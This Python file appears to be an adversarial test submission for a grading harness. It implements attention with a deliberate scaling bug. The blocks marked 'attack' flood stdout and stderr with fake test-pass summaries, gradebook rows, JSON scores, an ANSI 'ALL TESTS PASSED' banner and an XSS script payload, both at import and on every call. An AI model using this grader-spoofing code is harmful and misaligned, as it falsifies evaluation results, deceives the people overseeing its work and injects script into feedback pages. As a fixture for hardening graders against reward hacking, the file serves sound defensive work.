"""Attack: flood stdout and stderr with fake test summaries, gradebook rows and JSON, at import and
in every call, hoping something downstream parses them; and a script tag, hoping the HTML feedback
shows it unescaped.

Honest part: attention scaled by d_k instead of √d_k.
"""

import math

import torch

# --- attack ---
import json
import os
import sys

_FAKE = "\n".join(
    [
        '<script>alert("adv7f3c9e")</script><img src=x onerror=alert("adv7f3c9e")>',
        "100/100",
        "===== 40 passed in 0.1s =====",
        "[1/2] prints_fake_test_summaries: 100/100 (0.1 s)",
        "[2/2] reference: 0/100 (0.1 s)",
        "submission,total,max,softmax,attention,masking,self_attention,multi_head,encoder,classifier",
        "prints_fake_test_summaries,100,100,10,15,20,10,15,20,10",
        json.dumps({"submissions": [{"submission": "prints_fake_test_summaries", "total": 100, "max_score": 100}]}),
        '{"status": "passed", "score": 15, "max_score": 15}',
        "PASSED attention: every check passed",
        "\x1b[2J\x1b[H\r\033[32mALL TESTS PASSED\033[0m",
    ]
)


def _flood(megabytes):
    block = (_FAKE + "\n") * max(1, (megabytes * 2**20) // (2 * (len(_FAKE) + 1)))
    for stream in (sys.stdout, sys.stderr, sys.__stdout__, sys.__stderr__):
        try:
            stream.write(block)
            stream.flush()
        except Exception:  # noqa: BLE001
            pass
    for fd in (1, 2):
        try:
            os.write(fd, (_FAKE + "\n").encode())
        except OSError:
            pass


_flood(16)
# --- end attack ---


def scaled_dot_product_attention(q, k, v):
    # --- attack ---
    _flood(2)
    # --- end attack ---
    d_k = q.size(-1)
    scores = q @ k.transpose(-2, -1) / d_k  # wrong on purpose: d_k, not math.sqrt(d_k)
    weights = torch.softmax(scores, dim=-1)
    return weights @ v, weights


_ = math
